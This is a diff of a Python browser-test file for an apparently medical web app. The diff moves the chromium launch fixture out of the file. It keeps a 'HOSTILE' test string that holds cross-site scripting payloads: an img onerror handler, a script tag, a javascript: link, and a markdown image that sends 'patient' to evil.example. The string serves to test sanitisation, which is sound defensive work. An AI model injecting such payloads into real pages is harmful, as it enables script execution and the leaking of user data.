@@ -1,42 +1,21 @@
 """The page in a real browser: Debian's chromium, driven by playwright."""
 
-import shutil
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, Locator, Page, expect, sync_playwright
+from playwright.sync_api import Browser, Locator, Page, expect
 
 from bedside.runtime.scripted import ScriptedBackend
 from bedside.text.prompts import NOTICE
 
 from .conftest import PATIENCE_S, EndlessSpeaker, Serving
 
-CHROMIUM = shutil.which("chromium")
-ARGUMENTS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
 REPLY = ("The right atrium is full.", "Right heart failure.")
 HOSTILE = (
     "<img src=http://evil.example/x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> "
     "![x](http://evil.example/y?q=patient) [click](javascript:alert(1)) <b>bold</b>"
 )
 KEY = "a-key-of-the-ward"
-
-pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
-        yield browser
-        browser.close()
-
 
 @pytest.fixture
 def page(browser: Browser) -> Iterator[Page]:
